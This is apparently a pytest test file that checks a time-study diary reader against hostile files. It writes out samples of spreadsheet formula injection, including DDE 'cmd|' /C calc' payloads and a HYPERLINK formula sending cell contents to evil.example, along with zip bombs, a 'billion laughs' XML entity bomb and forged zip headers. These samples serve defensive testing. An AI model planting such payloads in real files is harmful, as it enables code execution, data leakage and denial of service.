"""Hostile diary files: random and damaged bytes, huge fields, thousands of columns, zip bombs,
deep JSON, formulas.

Whatever the bytes, :func:`timestudy.read_diary` either returns (every row
accounted for: ``n_read == n_accepted + n_rejected + n_duplicates``) or raises a
``TimestudyError`` whose message is one line naming the file; ``timestudy
validate`` exits 0, 1 or 2 with, on 2, one line on standard error and no
traceback. What bounds the work is asserted rather than a time: a zip bomb is
refused before any part of it is unpacked, an XML entity at its definition, a
table too wide by :func:`~timestudy.ingest.files.read_table` before validation. Nothing in a workbook is evaluated, and text that would
run as a formula is neutralised in every export (``rejects.csv``, categorised
episodes).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl
import pandas as pd
import pytest
from hostile import (
    FUZZ,
    SHEET_CLOSE,
    SHEET_OPEN,
    assert_clean_error,
    assert_one_line,
    cli,
    hang_guard,
    run_clis,
    sheet_rows,
    xlsx_bytes,
)
from hypothesis import given
from hypothesis import strategies as st

from timestudy import read_diary
from timestudy.errors import SchemaError, TimestudyError
from timestudy.ingest import files
from timestudy.ingest.tables import read_cases, read_workers

SUFFIXES = [".csv", ".tsv", ".txt", ".xlsx", ".parquet", ".jsonl", ".json", ".dat"]
MAGIC = [
    b"",
    b"PK\x03\x04",
    b"PAR1",
    b"{",
    b"[",
    b"\xef\xbb\xbf",
    b"\xff\xfe",
    b"worker_id,start,end\n",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

BASE = pd.DataFrame(
    {
        "worker_id": ["W1", "W2", "W1", "W2"],
        "start": ["2026-03-09T09:00", "2026-03-09T09:00", "2026-03-09T10:00", "2026-03-09T10:00"],
        "end": ["2026-03-09T10:00", "2026-03-09T09:30", "2026-03-09T11:00", "2026-03-09T10:45"],
        "activity": ["home visit", "court statement", "=1+1", "drive to school"],
        "duration_min": [60, 30, 60, 45],
    }
)


def encode(frame: pd.DataFrame, fmt: str) -> bytes:
    buf = io.BytesIO()
    if fmt == "csv":
        buf.write(frame.to_csv(index=False).encode())
    elif fmt == "xlsx":
        frame.to_excel(buf, index=False)
    elif fmt == "parquet":
        frame.to_parquet(buf, index=False)
    else:
        buf.write(frame.to_json(orient="records", lines=True).encode())
    return buf.getvalue()


VALID = {fmt: encode(BASE, fmt) for fmt in ("csv", "xlsx", "parquet", "jsonl")}


def read_or_refuse(path, **kwargs):
    """Read ``path``; the result accounts for every row, or the error is one line."""
    with hang_guard():
        try:
            result = read_diary(path, warn=False, **kwargs)
        except TimestudyError as exc:
            assert_one_line(str(exc), path.name)
            return exc
    r = result.report
    assert r.n_read == r.n_accepted + r.n_rejected + r.n_duplicates
    assert len(result.episodes) == r.n_accepted
    return result


# -- random and damaged bytes ----------------------------------------------------------
@FUZZ
@given(
    suffix=st.sampled_from(SUFFIXES),
    magic=st.sampled_from(MAGIC),
    body=st.binary(max_size=4000),
)
def test_random_bytes_are_read_or_refused_cleanly(tmp_path_factory, suffix, magic, body):
    path = tmp_path_factory.mktemp("random") / f"diary{suffix}"
    path.write_bytes(magic + body)
    read_or_refuse(path)


@st.composite
def damaged(draw, fmt: str) -> bytes:
    """A valid diary in ``fmt`` with a few random edits (in the sheet XML for a workbook)."""
    data = VALID[fmt]
    if fmt == "xlsx":
        parts = {
            i.filename: zipfile.ZipFile(io.BytesIO(data)).read(i)
            for i in zipfile.ZipFile(io.BytesIO(data)).infolist()
        }
        name = draw(st.sampled_from(sorted(parts)))
        parts[name] = draw(edits(parts[name]))
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            for k, v in parts.items():
                z.writestr(k, v)
        return buf.getvalue()
    return draw(edits(data))


@st.composite
def edits(draw, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(draw(st.integers(1, 6))):
        pos = draw(st.integers(0, max(len(out) - 1, 0)))
        how = draw(st.sampled_from(["flip", "cut", "insert"]))
        if how == "flip" and out:
            out[pos] = draw(st.integers(0, 255))
        elif how == "cut":
            del out[pos : pos + draw(st.integers(1, 40))]
        else:
            junk = st.sampled_from(
                [
                    b"\x00",
                    b'"',
                    b",",
                    b"\n",
                    b"\r",
                    b"{",
                    b"[",
                    b"<",
                    b"&",
                    b"</c>",
                    b"\xff",
                    b'<c r="ZZ9" t="s"><v>99</v></c>',
                    b"<v>1e999</v>",
                    b'<row r="0">',
                    b"=cmd|",
                ]
            )
            out[pos:pos] = draw(st.one_of(junk, st.binary(min_size=1, max_size=8)))
    return bytes(out)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet", "jsonl"])
def test_damaged_files_are_read_or_refused_cleanly(tmp_path, fmt):
    @FUZZ
    @given(data=damaged(fmt))
    def check(data):
        path = tmp_path / f"diary.{fmt}"
        path.write_bytes(data)
        read_or_refuse(path)

    check()


@FUZZ
@given(data=st.data())
def test_validate_exits_0_1_or_2_on_any_file_with_one_line(tmp_path_factory, capsys, data):
    fmt = data.draw(st.sampled_from(["csv", "xlsx", "parquet", "jsonl"]))
    raw = data.draw(st.one_of(damaged(fmt), st.binary(max_size=2000)))
    folder = tmp_path_factory.mktemp("validate")
    path = folder / f"diary.{fmt}"
    path.write_bytes(raw)
    run = cli(["validate", path, "--out", folder / "out"], capsys)
    assert_clean_error(run, codes=(0, 1, 2), name=path.name)


@FUZZ
@given(suffix=st.sampled_from([".csv", ".xlsx", ".parquet"]), body=st.binary(max_size=2000))
def test_cases_and_workers_tables_are_read_or_refused_cleanly(tmp_path_factory, suffix, body):
    path = tmp_path_factory.mktemp("tables") / f"table{suffix}"
    path.write_bytes(body)
    for reader in (read_cases, read_workers):
        with hang_guard():
            try:
                reader(path)
            except TimestudyError as exc:
                assert_one_line(str(exc), path.name)


# -- one hostile file at a time ---------------------------------------------------------
HEADER = "worker_id,start,end,activity"
ROW = "W1,2026-03-09T09:00,2026-03-09T10:00,home visit"


def test_a_10_mb_cell_is_read_as_in_json_lines(tmp_path):
    path = tmp_path / "huge_cell.csv"
    path.write_text(f"{HEADER}\nW1,2026-03-09T09:00,2026-03-09T10:00,{'a' * 10_000_000}\n{ROW}\n")
    result = read_or_refuse(path)
    assert result.report.n_read == 2 and result.report.n_accepted == 2


@pytest.fixture
def small_field_limit(monkeypatch):
    """FIELD_LIMIT of 150,000 characters, with csv's process-wide limit below it for the test."""
    import csv

    monkeypatch.setattr("timestudy.ingest.csvfile.FIELD_LIMIT", 150_000)
    before = csv.field_size_limit(131_072)
    yield
    csv.field_size_limit(before)


def test_a_cell_over_the_field_limit_is_refused_with_the_likely_cause(tmp_path, small_field_limit):
    path = tmp_path / "huge_cell.csv"
    long_value = '"' + "a" * 200_000 + '\nb"'  # a line break inside: the exact (csv) reader
    path.write_text(f"{HEADER}\nW1,2026-03-09T09:00,2026-03-09T10:00,{long_value}\n{ROW}\n")
    error = read_or_refuse(path)
    assert isinstance(error, SchemaError)
    assert "longer than 150,000 characters" in str(error) and "quote" in str(error)


def test_an_unclosed_quote_running_to_the_end_of_the_file_is_a_reject(tmp_path):
    path = tmp_path / "open_quote.csv"
    path.write_text(
        f'{HEADER}\nW1,2026-03-09T09:00,2026-03-09T10:00,"visit\n' + (ROW + "\n") * 20_000
    )
    result = read_or_refuse(path)
    assert result.report.rejected_by_reason == {"unclosed_quote": 1}
    assert "20,000 lines that look like rows" in result.rejects["reason"].iloc[0]


def test_a_10_mb_cell_in_json_lines_is_read(tmp_path):
    path = tmp_path / "huge_cell.jsonl"
    record = dict(zip(HEADER.split(","), ROW.split(","), strict=True))
    lines = [json.dumps({**record, "activity": "a" * 10_000_000}), json.dumps(record)]
    path.write_text("\n".join(lines) + "\n")
    result = read_or_refuse(path)
    assert result.report.n_read == 2


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet", "xlsx"])
def test_a_column_more_than_the_limit_is_refused_before_validation(tmp_path, fmt):
    # one column over MAX_COLUMNS: where the limit falls is what is tested here; what
    # 5,000 columns cost each reader is in benchmarks/bench_hostile.py
    wide = pd.DataFrame([ROW.split(",")], columns=HEADER.split(","))
    n_extra = files.MAX_COLUMNS + 1 - wide.shape[1]
    extra = pd.DataFrame({f"c{i}": ["x"] for i in range(n_extra)})
    frame = pd.concat([wide, extra], axis=1)
    path = tmp_path / f"wide.{fmt}"
    path.write_bytes(encode(frame, fmt))
    width = f"{files.MAX_COLUMNS + 1:,} columns"
    error = read_or_refuse(path)
    assert isinstance(error, SchemaError) and width in str(error)
    with pytest.raises(SchemaError, match=width):  # no column is checked
        files.read_table(path)


def test_a_wide_workbook_is_refused_before_its_columns_are_built(tmp_path, monkeypatch):
    # the refusal comes before the work per column (text of every cell), not after it
    from timestudy.ingest import workbook

    def no_column_work(col):
        raise AssertionError("a column was built before the width was checked")

    monkeypatch.setattr(workbook, "_sheet_column", no_column_work)
    wide = pd.DataFrame({f"c{i}": ["x"] for i in range(files.MAX_COLUMNS + 1)})
    path = tmp_path / "wide.xlsx"
    path.write_bytes(encode(wide, "xlsx"))
    with pytest.raises(SchemaError, match=f"{files.MAX_COLUMNS + 1:,} columns"):
        files.read_table(path)


def test_a_header_of_5000_columns_with_one_delimiter_too_many_in_every_row(tmp_path):
    path = tmp_path / "wide.csv"
    path.write_text(",".join(f"c{i}" for i in range(5_000)) + "\n" + ",".join(["1"] * 5_001) + "\n")
    error = read_or_refuse(path)
    assert isinstance(error, SchemaError)


def test_very_long_lines(tmp_path):
    one_line = tmp_path / "one_line.csv"
    one_line.write_text("a" * 20_000_000)
    assert isinstance(read_or_refuse(one_line), SchemaError)
    glued = tmp_path / "glued.csv"  # 100,000 rows with their line breaks lost
    glued.write_text(f"{HEADER}\n" + ROW * 100_000 + "\n")
    result = read_or_refuse(glued)
    assert result.report.n_rejected == 1 and "fields" in result.rejects["reason"].iloc[0]


def test_nul_bytes_anywhere(tmp_path):
    path = tmp_path / "nul.csv"
    path.write_bytes(
        b"worker_id,st\x00art,end,activity\nW\x001,2026-03-09T09:00,2026-03-09T10:00,vi\x00sit\n"
    )
    read_or_refuse(path)
    only = tmp_path / "only_nul.csv"
    only.write_bytes(b"\x00" * 1_000_000)
    read_or_refuse(only)
    clean_header = tmp_path / "nul_in_cells.csv"
    clean_header.write_bytes(
        f"{HEADER}\n".encode() + b"W1,2026-03-09T09:00,2026-03-09T10:00,a\x00b\n"
    )
    result = read_or_refuse(clean_header)
    assert result.report.n_read == 1


def test_mixed_and_broken_encodings(tmp_path):
    mixed = tmp_path / "mixed.csv"
    mixed.write_bytes(
        f"{HEADER}\n".encode()
        + "W1,2026-03-09T09:00,2026-03-09T10:00,café\n".encode()
        + "W1,2026-03-09T10:00,2026-03-09T11:00,café £5\n".encode("cp1252")
        + "W1,2026-03-09T11:00,2026-03-09T12:00,ф\n".encode("utf-16-le")
    )
    result = read_or_refuse(mixed)  # read as cp1252; the UTF-16 line breaks into two
    assert result.report.n_read >= 3 and result.report.n_accepted >= 1
    cut = tmp_path / "cut_utf16.csv"
    cut.write_bytes((f"{HEADER}\n{ROW}\n").encode("utf-16")[:-1])
    assert isinstance(read_or_refuse(cut), SchemaError)


def test_deep_json_is_refused_without_reaching_pyarrow_and_crashing(tmp_path):
    array = tmp_path / "deep.json"
    array.write_bytes(b"[" * 100_000 + b"]" * 100_000)
    assert "nested too deeply" in str(read_or_refuse(array))
    nested_value = tmp_path / "deep_value.jsonl"
    record = dict(zip(HEADER.split(","), ROW.split(","), strict=True))
    nested_value.write_text(
        json.dumps(record)[:-1]
        + ', "note": '
        + "[" * 100_000
        + "]" * 100_000
        + "}\n"
        + json.dumps(record)
        + "\n"
    )
    result = read_or_refuse(nested_value)
    assert result.report.n_read == 2 and result.report.n_rejected == 1
    deep = files.MAX_JSON_DEPTH + 1
    assert files._too_deep(b"[" * deep + b"]" * deep)
    assert not files._too_deep(b'{"a": "' + b"[" * deep + b'", "b": [1, {"c": 2}]}')
    assert not files._too_deep(b'{"a": "\\"' + b"[" * deep + b'"}')


# -- workbooks: zip bombs, XML bombs, formulas --------------------------------------------
def _lying_sizes(data: bytes, member: bytes, size: int) -> bytes:
    """``data`` with ``member`` claiming ``size`` bytes unpacked in its zip headers."""
    import struct

    out = bytearray(data)
    at = out.rfind(b"PK\x01\x02", 0, out.rfind(member))
    struct.pack_into("<I", out, at + 24, size)
    at = out.rfind(b"PK\x03\x04", 0, out.find(member))
    struct.pack_into("<I", out, at + 22, size)
    return bytes(out)


def test_zip_bombs_are_refused_before_they_are_unpacked(tmp_path, monkeypatch):
    header = sheet_rows([["worker_id", "start", "end"]])[len(SHEET_OPEN) : -len(SHEET_CLOSE)]
    # 40 MB of white space packed into ~40 kB (a ratio of ~1000)
    spaces = tmp_path / "spaces.xlsx"
    spaces.write_bytes(xlsx_bytes(SHEET_OPEN + header + b" " * 40_000_000 + SHEET_CLOSE, level=9))
    # 300,000 one-cell rows in 90 kB: openpyxl took 24 s on it before the guard
    row = b'<row><c t="inlineStr"><is><t>W1</t></is></c></row>'
    rows = tmp_path / "rows.xlsx"
    rows.write_bytes(xlsx_bytes(SHEET_OPEN + header + row * 300_000 + SHEET_CLOSE, level=9))
    # a sheet claiming to unpack to 4 GB
    liar = tmp_path / "liar.xlsx"
    liar.write_bytes(
        _lying_sizes(
            xlsx_bytes(sheet_rows([["worker_id"]])), b"xl/worksheets/sheet1.xml", 2**32 - 16
        )
    )
    unpacked = []  # every part of a workbook opened for reading, by anyone
    open_part = zipfile.ZipFile.open

    def spy(self, name, mode="r", *args, **kwargs):
        if mode == "r":
            unpacked.append(getattr(name, "filename", name))
        return open_part(self, name, mode, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    for path in (spaces, rows, liar):
        error = read_or_refuse(path)
        assert isinstance(error, SchemaError) and "zip bomb" in str(error), error
        assert unpacked == [], f"{path.name}: {unpacked} unpacked before the refusal"
    fine = tmp_path / "fine.xlsx"  # the spy sees a workbook that is read
    fine.write_bytes(xlsx_bytes(sheet_rows([["worker_id", "start", "end"]])))
    read_or_refuse(fine)
    assert "xl/worksheets/sheet1.xml" in unpacked


def test_an_excel_file_written_normally_is_not_taken_for_a_bomb(tmp_path):
    frame = pd.concat([BASE] * 5_000, ignore_index=True)  # 20,000 rows, all alike
    path = tmp_path / "repetitive.xlsx"
    frame.to_excel(path, index=False)
    ratios = [i.file_size / i.compress_size for i in zipfile.ZipFile(path).infolist()]
    assert max(ratios) < files.MAX_ZIP_RATIO
    assert read_or_refuse(path).report.n_read == 20_000


def test_an_xml_entity_bomb_in_a_sheet_is_refused(tmp_path):
    entities = "".join(
        f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "lol") * 10}">' for i in range(1, 10)
    )
    sheet = (
        f'<?xml version="1.0"?><!DOCTYPE lolz [{entities}]>'.encode()
        + SHEET_OPEN[SHEET_OPEN.index(b"<worksheet") :]
        + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        + SHEET_CLOSE
    )
    path = tmp_path / "entities.xlsx"
    path.write_bytes(xlsx_bytes(sheet))
    error = read_or_refuse(path)
    assert isinstance(error, SchemaError)
    # refused where the first entity is defined (defusedxml, under openpyxl), so none
    # of the 10**9 "lol" was ever expanded
    causes = [error]
    while causes[-1].__context__ is not None:
        causes.append(causes[-1].__context__)
    assert any(
        type(c).__name__ == "EntitiesForbidden" and c.name == "lol1" for c in causes
    ), causes


FORMULAS = [
    ["worker_id", "start", "end", "activity", "duration_min"],
    # a formula without a cached value: read as an empty cell, never as its text or result
    ["W1", "2026-03-09T09:00", "2026-03-09T10:00", (None, "cmd|' /C calc'!A0"), 60],
    # a formula whose cached value is itself formula text (a crafted file can hold anything)
    [
        "W1",
        "2026-03-09T10:00",
        "2026-03-09T11:00",
        ("=cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A2,"click")'),
        60,
    ],
    ["W1", "2026-03-09T11:00", "2026-03-09T12:00", '=HYPERLINK("http://evil.example")', 60],
    ["W1", "2026-03-09T12:00", "2026-03-09T13:00", "@SUM(1+1)*cmd|' /C calc'!A0", 60],
    ["W1", "2026-03-09T13:00", "2026-03-09T14:00", "+1+2", 60],
    ["W1", "2026-03-09T14:00", "2026-03-09T15:00", "-2+3", (None, "1+2")],
    [(None, "1+2"), "2026-03-09T15:00", "2026-03-09T16:00", "visit", 60],
    ["=1+2", "=NOW()", "2026-03-09T17:00", "\tvisit", 60],
]


def _cells(path) -> list[str]:
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)  # formulas as formulas: nothing may be one
        ws = book.worksheets[0]
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
        return [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    with open(path, newline="", encoding="utf-8") as f:
        return [value for row in csv.reader(f) for value in row]


def test_workbook_formulas_are_never_evaluated_and_exports_neutralise_them(tmp_path, capsys):
    path = tmp_path / "formulas.xlsx"
    path.write_bytes(xlsx_bytes(sheet_rows(FORMULAS)))
    result = read_or_refuse(path)
    episodes = result.episodes.set_index("source_row")
    text = " ".join(map(str, result.episodes.to_numpy().ravel())) + " ".join(
        map(str, result.rejects.to_numpy().ravel())
    )
    assert 'HYPERLINK("http://evil.example/?"' not in text  # a formula's own text
    assert pd.isna(episodes.loc[2, "activity"])  # formula without a cached value: empty
    assert episodes.loc[3, "activity"] == "=cmd|' /C calc'!A0"  # stored text, as text
    assert 7 not in episodes.index or episodes.loc[7, "duration_min"] != 3  # 1+2 not run
    assert set(result.rejects["source_row"]) >= {8, 9}  # worker_id only a formula; "=NOW()"

    out = tmp_path / "out"
    run = cli(["validate", path, "--out", out], capsys)
    assert_clean_error(run, codes=(1,))
    cells = _cells(out / "rejects.csv")
    assert "'=1+2" in cells and "'=NOW()" in cells and "'\tvisit" in cells
    assert not [c for c in cells if c.startswith(FORMULA_START)]

    for suffix in (".csv", ".xlsx"):
        target = tmp_path / f"categorised{suffix}"
        run = cli(["categorise", out / "episodes.parquet", "--out", target], capsys)
        assert run.code == 0, run.err
        cells = _cells(target)
        assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
        assert not [c for c in cells if c.startswith(FORMULA_START)]


# -- the command line, in new processes (a crash must not take the test run with it) --------
def test_validate_in_a_new_process_never_crashes_or_hangs(tmp_path):
    deep = tmp_path / "deep.jsonl"
    deep.write_bytes(b'{"a": ' * 100_000 + b"1" + b"}" * 100_000 + b"\n")
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(xlsx_bytes(SHEET_OPEN + b" " * 20_000_000 + SHEET_CLOSE, level=9))
    noise = tmp_path / "noise.parquet"
    noise.write_bytes(b"PAR1" + bytes(range(256)) * 16 + b"PAR1")
    wide = tmp_path / "wide.csv"
    wide.write_text(",".join(f"c{i}" for i in range(5_000)) + "\n" + ",".join("1" * 5_000) + "\n")
    paths = [deep, bomb, noise, wide]
    for path, run in zip(paths, run_clis([["validate", p] for p in paths]), strict=True):
        assert_clean_error(run, name=path.name)
